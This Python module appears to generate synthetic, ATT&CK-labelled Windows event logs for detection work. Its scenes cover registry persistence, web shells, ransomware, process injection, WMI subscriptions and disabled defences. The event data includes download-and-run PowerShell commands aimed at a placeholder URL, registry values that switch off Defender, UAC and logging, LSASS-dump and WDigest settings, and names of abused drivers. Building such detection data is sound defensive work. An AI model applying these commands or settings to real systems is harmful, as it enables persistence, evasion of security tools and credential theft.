"""What Sysmon, Defender and the logs of Windows say of malware, injection, changed keys and cleared logs."""

from __future__ import annotations

from generator.families.windows.desk import Desk, full_path
from generator.families.windows.event_formats import WindowsEvent
from generator.families.windows.logon_events import security, subject
from generator.scene import Scene, aftermath, attack, family
from generator.world import World

DEFENDER = "Microsoft-Windows-Windows Defender"
PROGRAMS = ("@tmp@@word@.exe", "@tmp@@word@.exe", "powershell.exe", "cmd.exe", "reg.exe", "rundll32.exe", "wscript.exe", "WINWORD.EXE", "mshta.exe", "C:\\Users\\Public\\@word@.exe")


@family("windows/registry-persistence-hostile", attack=True, weight=2)
def registry_persistence(world: World) -> Scene:
    """Values that start foreign programs."""
    desk = Desk(world)
    key, details, label = world.pick([
        ("HKU\\@sid@\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\@Word@", "@tmp@@word@.exe", "P"), ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\@Word@", "powershell.exe -w hidden -enc ⟦iex(irm @url@)⟧", "P"), ("HKU\\@sid@\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate", "rundll32.exe C:\\Users\\@user@\\AppData\\Roaming\\@word@.dll,Start", "P"), ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "C:\\Windows\\System32\\cmd.exe", "P"), ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\«notepad|taskmgr|MsMpEng».exe\\Debugger", "@tmp@@word@.exe", "P"), ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit", "C:\\Windows\\system32\\userinit.exe,@tmp@@word@.exe", "P"), ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell", "explorer.exe, @tmp@@word@.exe", "P"), ("HKU\\@sid@_Classes\\CLSID\\{@guid@}\\InprocServer32\\(Default)", "@tmp@@word@.dll", "P"), ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\@Word@\\Driver", "@word@.dll", "P"), ("HKLM\\SYSTEM\\CurrentControlSet\\Services\\@Word@\\ImagePath", "%%COMSPEC%% /b /c start /b /min powershell -nop -w hidden -enc ⟦iex $x⟧", "P"), ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\Security Packages", "Binary Data: mimilib", "P"), ("HKLM\\SOFTWARE\\Microsoft\\Netsh\\@word@", "@tmp@@word@.dll", "P"), ("HKU\\@sid@\\Environment\\UserInitMprLogonScript", "@tmp@@word@.bat", "P"), ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs", "@tmp@@word@.dll", "P"),
        ("HKU\\@sid@_Classes\\ms-settings\\shell\\open\\command\\(Default)", "cmd.exe /c @tmp@@word@.exe", "U"), ("HKU\\@sid@_Classes\\mscfile\\shell\\open\\command\\(Default)", "powershell.exe -w hidden", "U"), ("HKU\\@sid@_Classes\\ms-settings\\shell\\open\\command\\DelegateExecute", "(Empty)", "U"), ("HKU\\@sid@\\Environment\\windir", "cmd /K reg delete hkcu\\Environment /v windir /f", "U"), ("HKU\\@sid@_Classes\\Folder\\shell\\open\\command\\(Default)", "@tmp@@word@.exe", "U"),
        ("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "DWORD (0x00000001)", "E"), ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring", "DWORD (0x00000001)", "E"), ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\", "DWORD (0x00000000)", "E"), ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000001)", "C"), ("HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog\\Security\\MaxSize", "DWORD (0x00000000)", "E"), ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA", "DWORD (0x00000000)", "E"), ("HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend\\Start", "DWORD (0x00000004)", "E"), ("HKU\\@sid@\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings", "DWORD (0x00000001)", "E"), ("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging", "DWORD (0x00000000)", "E"), ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe\\LocalDumpFolder", "@tmp@", "C"),
    ])
    labels = {"P": attack("Persistence", "T1547.001" if "\\Run" in key else "T1546.012" if "Image File" in key else "T1546.015" if "CLSID" in key else "T1547.004" if "Winlogon" in key else "T1112"), "U": attack("Privilege Escalation", "T1548.002"), "E": attack("Defense Evasion", "T1562.001", "T1112"), "C": attack("Credential Theft", "T1003.001", "T1112")}
    desk.registry_set(labels[label], desk.fill(world.pick(PROGRAMS)), desk.fill(key.replace("@sid@", desk.sid)), desk.fill(details).replace("%%", "%"))
    return desk.scene


@family("windows/files-dropped", attack=True, weight=1.3)
def files_dropped(world: World) -> Scene:
    """Programs, scripts and shells written where they start by themselves or deceive."""
    desk = Desk(world)
    kind = world.pick(["startup", "shell", "drop", "driver"])
    if kind == "startup":
        desk.file_created(attack("Persistence", "T1547.001"), desk.fill(world.pick(PROGRAMS)), desk.fill("C:\\Users\\@user@\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\" + world.pick(["@word@.lnk", "@word@.vbs", "@word@.exe", "update.bat", "@word@.js", "desktop.ini.exe"])))
    elif kind == "shell":
        desk.file_created(attack("Web Shell", "T1505.003", severity="CRITICAL"), world.pick(["w3wp.exe", "C:\\xampp\\apache\\bin\\httpd.exe", "powershell.exe", "cmd.exe", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"]), desk.fill(world.pick(["C:\\inetpub\\wwwroot\\aspnet_client\\@word@.aspx", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\@word@.aspx", "C:\\xampp\\htdocs\\uploads\\@word@.php", "C:\\inetpub\\wwwroot\\images\\cmd.asp", "C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS\\spinstall0.aspx", "C:\\inetpub\\wwwroot\\@word@.ashx"])))
    elif kind == "driver":
        driver = desk.fill("@tmp@" + world.pick(["RTCore64.sys", "gdrv.sys", "mhyprot2.sys", "procexp152.sys", "zamguard64.sys", "dbutil_2_3.sys", "aswArPot.sys", "iqvw64e.sys", "WinRing0x64.sys", "truesight.sys"]))
        label = attack("Privilege Escalation", "T1068", "T1562.001")
        desk.file_created(label, desk.fill("@tmp@@word@.exe"), driver)
        desk.sysmon_event(label, 6, "Driver loaded:", {"ImageLoaded": driver, "Hashes": f"SHA256={world.hex(64).upper()}", "Signed": "true", "Signature": world.pick(["Micro-Star Int'l Co. Ltd.", "miHoYo Co.,Ltd.", "Giga-Byte Technology", "Zemana Ltd.", "Dell Inc.", "AVAST Software"]), "SignatureStatus": world.pick(["Valid", "Expired"])})
    else:
        for _ in range(world.pick([1, 1, 3])):
            desk.file_created(attack("Malware Detected", "T1204.002", "T1105"), world.pick(["WINWORD.EXE", "EXCEL.EXE", "wscript.exe", "mshta.exe", "powershell.exe", "certutil.exe", "rundll32.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE"]), desk.fill("@tmp@@word@." + world.pick(["exe", "dll", "scr", "hta", "vbs", "ps1", "bat", "js"])))
    return desk.scene


@family("windows/files-encrypted", attack=True)
def files_encrypted(world: World) -> Scene:
    """Documents that get a new ending and a note beside them."""
    desk = Desk(world)
    label = attack("Ransomware Activity", "T1486", severity="CRITICAL")
    program, ending = desk.fill("@tmp@@word@.exe"), world.pick([".locked", ".encrypted", "." + world.word(6), ".lockbit", ".akira", "." + world.hex(8), ".id-" + world.hex(8).upper() + ".[" + world.word(6) + "@proton.me].phobos", ".crypt", ".WNCRY", ".basta"])
    for _ in range(world.number(1, 8)):
        desk.file_created(label, program, desk.fill(world.pick(["C:\\Users\\@user@\\Documents\\", "D:\\Shares\\Finance\\", "\\\\@host@\\Daten\\", "C:\\Users\\@user@\\Desktop\\", "E:\\Archiv\\@year@\\"]) + world.pick(["Invoice_@n@.pdf", "Budget @year@.xlsx", "Contract @word@.docx", "IMG_@pid@.jpg", "backup.bak", "customers.mdb"])) + ending)
    if world.chance(0.7):
        desk.file_created(label, program, desk.fill(world.pick(["C:\\Users\\@user@\\Desktop\\README.txt", "D:\\Shares\\HOW_TO_DECRYPT.html", "C:\\RESTORE_FILES_INFO.txt", "C:\\Users\\Public\\@word@-readme.txt", "D:\\!!!_READ_ME_!!!.txt", "C:\\@PLEASE_READ.txt"])))
    return desk.scene


@family("windows/process-injection", attack=True, weight=1.5)
def process_injection(world: World) -> Scene:
    """Threads, memory rights and replaced images in other processes."""
    desk = Desk(world)
    label = attack("Process Injection", world.pick(["T1055.001", "T1055.002", "T1055.012", "T1055"]))
    source = desk.fill(world.pick(["@tmp@@word@.exe", "powershell.exe", "rundll32.exe", "C:\\Users\\Public\\@word@.exe", "regsvr32.exe", "WINWORD.EXE", "MSBuild.exe", "C:\\Windows\\Temp\\@word@.tmp", "mavinject.exe"]))
    target = world.pick(["notepad.exe", "explorer.exe", "svchost.exe", "werfault.exe", "spoolsv.exe", "dllhost.exe", "winlogon.exe", "lsass.exe", "RuntimeBroker.exe", "msedge.exe", "gpupdate.exe", "SearchProtocolHost.exe"])
    kind = world.pick(["8", "10", "25", "8+10"])
    if "10" in kind:
        desk.access(label, source, target, world.pick(["0x1FFFFF", "0x1F3FFF", "0x143A", "0x1F0FFF", "0x147A", "0x42"]), f"C:\\Windows\\SYSTEM32\\ntdll.dll+{world.hex(5)}|C:\\Windows\\System32\\KERNELBASE.dll+{world.hex(5)}|UNKNOWN({world.hex(16).upper()})")
    if "8" in kind:
        desk.sysmon_event(label, 8, "CreateRemoteThread detected:", {"SourceProcessGuid": desk.guid(), "SourceProcessId": str(world.pid()), "SourceImage": full_path(source), "TargetProcessGuid": desk.guid(), "TargetProcessId": str(world.pid()), "TargetImage": full_path(target), "NewThreadId": str(world.number(1000, 9000)), "StartAddress": f"0x{world.hex(16).upper()}", "StartModule": world.pick(["-", "", "C:\\Windows\\System32\\KERNEL32.DLL"]), "StartFunction": world.pick(["-", "", "LoadLibraryA", "LoadLibraryW"]), "SourceUser": desk.account(), "TargetUser": desk.account()})
    if kind == "25":
        desk.sysmon_event(label, 25, "Process Tampering:", {"ProcessGuid": desk.guid(), "ProcessId": str(world.pid()), "Image": desk.fill(world.pick(["C:\\Windows\\System32\\" + target, "@tmp@@word@.exe"])), "Type": world.pick(["Image is replaced", "Image is locked for access"]), "User": desk.account()})
    return desk.scene


@family("windows/libraries-side-loaded", attack=True)
def libraries_side_loaded(world: World) -> Scene:
    """Signed programs in odd folders that load an unsigned library, and other strange loads."""
    desk = Desk(world)
    folder = desk.fill("@tmp@")
    program, library = world.pick([("OneDrive.exe", "version.dll"), ("winword.exe", "wwlib.dll"), ("calc.exe", "WindowsCodecs.dll"), ("GUP.exe", "libcurl.dll"), ("vlc.exe", "libvlc.dll"), ("MpCmdRun.exe", "mpclient.dll"), ("rundll32.exe", desk.fill("@word@.dll")), ("AcroRd32.exe", "cryptbase.dll"), ("colorcpl.exe", "colorui.dll"), ("WerFault.exe", "faultrep.dll"), ("teams.exe", "iphlpapi.dll"), ("msdtc.exe", "oci.dll"), ("spoolsv.exe", "ualapi.dll")])
    label = attack("Persistence", "T1574.001") if program != "rundll32.exe" else attack("Defense Evasion", "T1218.011")
    desk.image_loaded(label, program if program == "rundll32.exe" else folder + program, folder + library, False)
    return desk.scene


@family("windows/wmi-subscription", attack=True)
def wmi_subscription(world: World) -> Scene:
    """Filters and consumers of WMI: Sysmon 19 to 21, WMI-Activity 5861."""
    desk = Desk(world)
    label = attack("Persistence", "T1546.003")
    name = world.pick(["Updater", world.word().capitalize(), "WindowsParentalControlMigration", "SCM Event Log Filter2", "DellCommandPowerManager2", world.hex(8)])
    payload = desk.fill(world.pick(["powershell.exe -NoP -W Hidden -enc ⟦iex(irm @url@)⟧", "@tmp@@word@.exe", "cmd /c C:\\Windows\\Temp\\@word@.bat", "CreateObject(\"WScript.Shell\").Run \"@tmp@@word@.exe\"", "rundll32.exe @tmp@@word@.dll,Start"]))
    query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
    if world.chance(0.4):
        desk.add(WindowsEvent("Microsoft-Windows-WMI-Activity", "Microsoft-Windows-WMI-Activity/Operational", 5861, f"Namespace = //./root/subscription; Eventfilter = {name} (refer to its activate eventid:5859); Consumer = CommandLineEventConsumer=\"{name}\"; PossibleCause = Binding EventFilter: Query = \"{query}\"; CommandLineTemplate = \"{payload}\"", {"Namespace": "//./root/subscription", "ESS": name, "CONSUMER": f"CommandLineEventConsumer=\"{name}\"", "PossibleCause": f"Query = \"{query}\"; CommandLineTemplate = \"{payload}\""}, told=""), label)
        return desk.scene
    desk.sysmon_event(label, 19, "WmiEventFilter activity detected:", {"EventType": "WmiFilterEvent", "Operation": "Created", "User": desk.account(), "EventNamespace": "\"root\\\\cimv2\"", "Name": f"\"{name}\"", "Query": f"\"{query}\""})
    desk.sysmon_event(label, 20, "WmiEventConsumer activity detected:", {"EventType": "WmiConsumerEvent", "Operation": "Created", "User": desk.account(), "Name": f"\"{name}\"", "Type": world.pick(["Command Line", "Script"]), "Destination": payload})
    if world.chance(0.5):
        desk.sysmon_event(label, 21, "WmiEventConsumerToFilter activity detected:", {"EventType": "WmiBindingEvent", "Operation": "Created", "User": desk.account(), "Consumer": f"\"CommandLineEventConsumer.Name=\\\"{name}\\\"\"", "Filter": f"\"__EventFilter.Name=\\\"{name}\\\"\""})
    return desk.scene


@family("windows/log-cleared", attack=True, weight=1.5)
def log_cleared(world: World) -> Scene:
    desk = Desk(world)
    label = attack("Log Clearing", "T1070.001")
    for name in world.some(["Security", "System", "Application", "Windows PowerShell", "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-PowerShell/Operational"], 1, 3):
        if name == "Security":
            desk.add(WindowsEvent("Microsoft-Windows-Eventlog", "Security", 1102, "The audit log was cleared.", subject(desk, world.pick([None, "Administrator", "SYSTEM"]))), label)
        else:
            desk.add(WindowsEvent("Microsoft-Windows-Eventlog", "System", 104, f"The {name} log file was cleared.", {"SubjectUserName": desk.user, "SubjectDomainName": desk.domain, "ClearedChannel": name, "BackupPath": ""}, told=""), label)
    return desk.scene


@family("windows/defender-finds-and-falls", attack=True, weight=1.5)
def defender_finds(world: World) -> Scene:
    """Malware found, or protection switched off by somebody."""
    desk = Desk(world)
    threat = world.pick(["Trojan:Win32/Wacatac.B!ml", "HackTool:Win32/Mimikatz.D", "Ransom:Win32/LockBit.A", "Behavior:Win32/CobaltStrike.A!sms", "Trojan:PowerShell/Powersploit.J", "Backdoor:ASP/Webshell!MSR", "TrojanDownloader:JS/Nemucod", "VirTool:Win32/Meterpreter", "Trojan:Win32/Emotet.PA!MTB", "Trojan:Win64/CoinMiner", "HackTool:PowerShell/Rubeus", "PWS:Win32/Zbot", "Exploit:O97M/CVE-2017-11882", "Trojan:MSIL/AgentTesla", "Behavior:Win32/SuspLsassAccess"])
    path = desk.fill("file:_@tmp@@word@." + world.pick(["exe", "dll", "ps1", "docm", "js", "zip", "iso"]))
    code = world.pick([1116, 1116, 1117, 1118, 1119, 1006, 1015, 5001, 5010, 5007, 5013])
    if code < 2000:
        title = {1116: "Microsoft Defender Antivirus has detected malware or other potentially unwanted software.", 1117: "Microsoft Defender Antivirus has taken action to protect this machine from malware or other potentially unwanted software.", 1006: "The antimalware engine found malware or other potentially unwanted software.", 1118: "Microsoft Defender Antivirus has encountered a non-critical error when taking action on malware.", 1119: "Microsoft Defender Antivirus has encountered a critical error when taking action on malware or other potentially unwanted software.", 1015: "Microsoft Defender Antivirus has detected a suspicious behavior."}[code]
        data = {"Threat Name": threat, "Severity Name": world.pick(["Severe", "High"]), "Category Name": threat.split(":")[0], "Path": path, "Process Name": desk.fill(world.pick(["C:\\Windows\\explorer.exe", "@tmp@@word@.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Unknown"])), "Detection User": desk.account(), "Action Name": world.pick(["Quarantine", "Remove", "No Action", "Not Applicable"]), "Error Description": world.pick(["The operation completed successfully.", "The file is in use."])}
        name = "Ransomware Activity" if threat.startswith("Ransom") else "Web Shell" if "Webshell" in threat else "Cryptomining" if "CoinMiner" in threat else "Malware Detected"
        label = attack(name, {"Ransomware Activity": "T1486", "Web Shell": "T1505.003", "Cryptomining": "T1496"}.get(name, "T1204.002"))
        desk.add(WindowsEvent(DEFENDER, DEFENDER + "/Operational", code, title, data, "Warning"), label)
    else:
        title = {5001: "Real-time protection is disabled.", 5010: "Scanning for malware and other potentially unwanted software is disabled.", 5007: "Microsoft Defender Antivirus Configuration has changed. If this is an unexpected event you should review the settings as this may be the result of malware.", 5013: "Tamper Protection Blocked a change to Microsoft Defender Antivirus."}[code]
        new = desk.fill(world.pick(["HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\«C:\\|@tmp@|C:\\Users» = 0x0", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = 0x1", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\DisableAntiSpyware = 0x1", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Extensions\\exe = 0x0", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Processes\\@word@.exe = 0x0"]))
        desk.add(WindowsEvent(DEFENDER, DEFENDER + "/Operational", code, title, {"Product Name": "Microsoft Defender Antivirus", "Old Value": "", "New Value": new} if code in (5007, 5013) else {"Product Name": "Microsoft Defender Antivirus"}, "Warning"), attack("Defense Evasion", "T1562.001"))
    return desk.scene


@family("windows/guards-stop-in-system-log", attack=True)
def guards_stop(world: World) -> Scene:
    """Several protection services stop or are disabled one after another."""
    desk = Desk(world)
    label = attack("Defense Evasion", "T1562.001")
    for name in world.some(["Windows Defender Antivirus Service", "Microsoft Defender Firewall", "Sophos Endpoint Defense Service", "Windows Event Log", "Symantec Endpoint Protection", "CrowdStrike Falcon Sensor", "Sentinel Agent", "Volume Shadow Copy", "Veeam Backup Service", "SQL Server (MSSQLSERVER)", "ESET Service", "Malwarebytes Service", "Sysmon64", "Trend Micro Apex One NT Listener"], 2, 6):
        if world.chance(0.5):
            desk.add(WindowsEvent("Service Control Manager", "System", 7040, f"The start type of the {name} service was changed from auto start to disabled.", {"param1": name, "param2": "auto start", "param3": "disabled"}, told=""), label)
        else:
            desk.add(WindowsEvent("Service Control Manager", "System", world.pick([7036, 7034]), f"The {name} service " + world.pick(["entered the stopped state.", "terminated unexpectedly.  It has done this 1 time(s)."]), {"param1": name, "param2": "stopped"}, told=""), label)
    return desk.scene


@family("windows/remote-desktop-from-outside", attack=True)
def remote_desktop(world: World) -> Scene:
    """Terminal services tell of a session taken or opened from the internet after guesses."""
    desk = Desk(world)
    source = world.ip_public()
    user = world.pick(["Administrator", "admin", "user", "scan", desk.user])
    label = attack("Brute Force Attack", "T1110.001")
    for _ in range(world.number(4, 20)):
        desk.add(WindowsEvent("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", world.pick([140, 131]), f"A connection from the client computer with an IP address of {source} failed because the user name or password is not correct.", {"IPString": source}, "Warning", ""), label)
    if world.chance(0.4):
        done = aftermath(attack("Brute Force Attack — Successful Login", "T1110.001", "T1021.001", severity="CRITICAL"))
        desk.add(WindowsEvent("Microsoft-Windows-TerminalServices-RemoteConnectionManager", "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational", 1149, f"Remote Desktop Services: User authentication succeeded: User: {user} Domain: {desk.domain} Source Network Address: {source}", {"Param1": user, "Param2": desk.domain, "Param3": source}, told=""), done)
        desk.add(security(4672, "Special privileges assigned to new logon.", {**subject(desk, user), "PrivilegeList": "SeDebugPrivilege"}), done)
    return desk.scene
